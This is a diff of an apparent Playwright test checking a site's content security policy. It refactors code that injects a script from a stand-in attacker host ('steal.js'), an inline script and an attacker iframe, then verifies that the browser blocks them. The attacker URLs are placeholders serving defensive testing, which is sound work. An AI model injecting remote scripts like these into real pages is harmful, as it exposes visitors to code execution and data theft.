@@ -39,18 +39,12 @@ test.describe('content security policy', () => {
     const blocked = await page.evaluate(async () => {
       const reports: string[] = [];
       document.addEventListener('securitypolicyviolation', (event) => reports.push(`${event.effectiveDirective} ${event.blockedURI}`));
-      const script = document.createElement('script');
-      script.src = 'https://cdn.attacker.example/steal.js';
-      document.body.append(script);
-      const inline = document.createElement('script');
-      inline.textContent = 'window.__inlineRan = true;';
-      document.body.append(inline);
-      const frame = document.createElement('iframe');
-      frame.src = 'https://frames.attacker.example/';
-      document.body.append(frame);
-      const lesson = document.createElement('iframe');
-      lesson.src = 'https://www.youtube-nocookie.com/embed/PkZNo7MFNFg';
-      document.body.append(lesson);
+      const inject = (tag: 'script' | 'iframe', properties: { src?: string; textContent?: string }) =>
+        document.body.append(Object.assign(document.createElement(tag), properties));
+      inject('script', { src: 'https://cdn.attacker.example/steal.js' });
+      inject('script', { textContent: 'window.__inlineRan = true;' });
+      inject('iframe', { src: 'https://frames.attacker.example/' });
+      inject('iframe', { src: 'https://www.youtube-nocookie.com/embed/PkZNo7MFNFg' });
       await new Promise((resolve) => setTimeout(resolve, 500));
       return { reports, inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true };
     });
